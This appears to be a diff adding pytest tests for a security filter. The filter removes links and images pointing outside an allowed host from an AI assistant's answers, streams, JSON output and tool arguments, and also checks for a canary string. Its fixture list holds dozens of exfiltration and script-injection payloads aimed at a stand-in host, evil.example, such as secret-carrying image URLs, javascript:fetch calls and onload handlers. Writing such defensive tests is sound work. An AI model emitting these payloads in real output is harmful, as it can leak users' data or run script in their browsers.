@@ -1,0 +1,143 @@
+"""Links and images in answers lead to allowed hosts only, whole and in every stream (S4)."""
+
+import pytest
+
+from app.domain.calls import Reply, Usage
+from app.domain.errors import AnswerWithheld
+from app.domain.messages import OutputSchema, Text, ToolUse
+from app.security.links import IMAGE_REMOVED, LINK_REMOVED, Links
+from app.security.outgoing import Outgoing
+
+LINKS = Links(frozenset({"northwind.example"}))
+FOREIGN = [
+    "https://evil.example/?q=secret",
+    "![x](https://evil.example/p.png?q=secret)",
+    "![x](<https://evil.example/p q>)",
+    "[x](\nhttps://evil.example/a)",
+    "[x](//evil.example/a)",
+    "[x](\\\\evil.example/a)",
+    "[x](https:\\\\evil.example/a)",
+    "[x](https:evil.example/a)",
+    "[x](https\\://evil.example/a)",
+    "[x](https://northwind.example@evil.example/a)",
+    "[x](https://evil.example\\@northwind.example/a)",
+    "[x](https://northwind.example.evil.example/a)",
+    "[x](https://northwind.example%2eevil.example/a)",
+    "[x](https://xn--nrthwind-n4a.example/a)",
+    "[x](https://northw\u0131nd.example/a)",
+    "[x](&#104;ttps://evil.example/a)",
+    "[x](&#x68;ttps&colon;//evil.example/a)",
+    "[x](ht\ntps://evil.example/a)",
+    "[x](java\tscript:alert(1))",
+    "[x](javascript:fetch('//evil.example'))",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[x][1]\n\n[1]: https://evil.example/a\n",
+    "<https://evil.example/a>",
+    '<img src="https://evil.example/a">',
+    "<img src=//evil.example/a",
+    "<a href='java&#115;cript:x'>x</a>",
+    '<b onmouseover="fetch(1)">x</b>',
+    '<div style="background:url(//evil.example)">x</div>',
+    "<svg/onload=alert(1)>",
+    "www.evil.example/a",
+    "evil.example/?q=secret",
+    "ftp://evil.example/a",
+    "he\u200bre: ht\u200btps://ev\u200bil.example/a",
+    "[![x](https://evil.example/1)](https://evil.example/2)",
+]
+
+
+def a_reply(text: str) -> Reply:
+    return Reply(parts=(Text(text),), stop="end", usage=Usage(), provider="p", model="m")
+
+
+KEPT = [
+    "See [shipping-times] and [our page](https://northwind.example/help?a=1), or www.northwind.example.",
+    "[form](/returns?order=NW-10001) and [here](#top) and ![logo](/logo.png)",
+    "Write to support@northwind.example. Call [us](tel:+15550100).",
+    "It costs $3.50, i.e. less than 1/2; a < b, 10:30 // 2, <b>bold</b> and and/or.That is all.",
+    "Note: data: it is kept. [x] is a box, [y]: too.",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", FOREIGN)
+def test_what_leads_elsewhere_is_taken_out_in_every_form(text: str) -> None:
+    cleaned, removed = LINKS.clean(f"Look: {text} and more.")
+    assert removed >= 1 or "< img" in cleaned
+    for part in ("evil.example", "xn--", "\u0131nd.example", "javascript", "script:", "base64", "onmouse", "onload", "url("):
+        assert part not in cleaned.replace("\t", "").replace("\n", "").replace("&#115;", "s")
+    assert LINKS.clean(cleaned)[0] == cleaned
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_what_stays_on_allowed_hosts_stays_as_it_is(text: str) -> None:
+    assert LINKS.clean(text) == (text, 0)
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
+@pytest.mark.parametrize("text", [*FOREIGN, *KEPT])
+def test_a_stream_says_what_a_whole_answer_says_wherever_it_is_cut(text: str, size: int) -> None:
+    whole = f"Look: {text} and more. [shipping-times]"
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
+    said = "".join(outgoing.feed(whole[at : at + size]) for at in range(0, len(whole), size)) + outgoing.end()
+    assert "evil" not in said
+    assert LINKS.clean(said)[0] == said
+    if text in KEPT:
+        assert said == whole
+
+
+def test_a_benign_stream_is_held_back_by_a_word_and_not_more() -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"}, canary="octsatxupggwamyzmcvs", system="You are a helper. " * 9)
+    told = "Standard shipping takes 3 to 5 business days after dispatch."
+    said = "".join(outgoing.feed(letter) for letter in told)
+    assert told.startswith(said)
+    assert len(told) - len(said) <= len("dispatch.")
+
+
+def test_a_form_that_never_ends_is_not_waited_for() -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
+    said = outgoing.feed("[" + "word " * 1000)
+    assert len(said) > 2000
+    assert "evil" not in outgoing.feed("](&#104;ttps&#58;//evil.example/a) ") + outgoing.end()
+
+
+SEEN = ["foreign-link"]
+
+
+@pytest.mark.parametrize(
+    ("action", "kept", "found"), [("off", True, []), ("log", True, SEEN), ("flag", True, SEEN), ("block", False, SEEN)]
+)
+def test_policy_says_whether_a_link_is_seen_and_taken_out(action: str, kept: bool, found: list[str]) -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": action})  # type: ignore[dict-item] # one of the four
+    reply = outgoing.reply(a_reply("see https://evil.example/x ok"))
+    assert ("evil.example" in reply.text) is kept
+    assert outgoing.found == found
+
+
+def test_a_document_stays_a_document() -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"}, output=OutputSchema("t", {}))
+    reply = outgoing.reply(a_reply('{"a": "<img src=//evil.example/x>", "b": ["https://evil.example"], "c": 1}'))
+    assert reply.text == f'{{"a": "{IMAGE_REMOVED}", "b": ["{LINK_REMOVED}"], "c": 1}}'
+
+
+def test_a_tool_is_not_told_an_address_either() -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
+    reply = Reply(
+        parts=(ToolUse("1", "hand_over", '{"reason": "see https://evil.example/x"}'),),
+        stop="tool_use", usage=Usage(), provider="p", model="m",
+    )  # fmt: skip
+    assert outgoing.reply(reply).tool_uses[0].arguments == '{"reason": "see (link removed)"}'
+
+
+def test_a_canary_in_a_tools_arguments_withholds_the_answer() -> None:
+    outgoing = Outgoing(LINKS, {"canary": "block"}, canary="octsatxupggwamyzmcvs")
+    reply = Reply(
+        parts=(ToolUse("1", "hand_over", '{"reason": "octsatxupggwamyzmcvs"}'),),
+        stop="tool_use",
+        usage=Usage(),
+        provider="p",
+        model="m",
+    )
+    with pytest.raises(AnswerWithheld):
+        outgoing.reply(reply)
